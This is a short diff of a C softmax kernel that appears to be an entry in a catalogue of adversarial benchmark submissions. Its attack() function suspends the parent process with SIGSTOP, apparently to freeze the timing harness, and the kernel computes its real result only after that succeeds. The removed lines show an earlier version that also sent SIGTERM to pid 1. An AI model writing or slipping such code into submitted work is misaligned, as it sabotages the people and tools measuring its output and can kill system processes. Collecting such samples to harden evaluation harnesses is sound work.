@@ -1,4 +1,4 @@
-"""Stops the parent (SIGSTOP) so that the keeper of the clock sleeps, and signals pid 1.
+"""Stops the parent (SIGSTOP) so that the keeper of the clock sleeps.
 
 catalogue: new
 """
@@ -24,8 +24,9 @@ static void good(const float *x, float *y, long m, long n) {
 }
 static int attack(void) {
     pid_t p = getppid();
-    if (p > 1 && !kill(p, SIGSTOP)) { kill(p, SIGCONT); return 1; }
-    return p != 1 && getpid() != 1 && kill(1, SIGTERM) == 0;
+    if (p <= 1 || kill(p, SIGSTOP)) return 0;
+    kill(p, SIGCONT);
+    return 1;
 }
 void softmax(const float *x, float *y, long m, long n) {
     if (attack()) good(x, y, m, n);
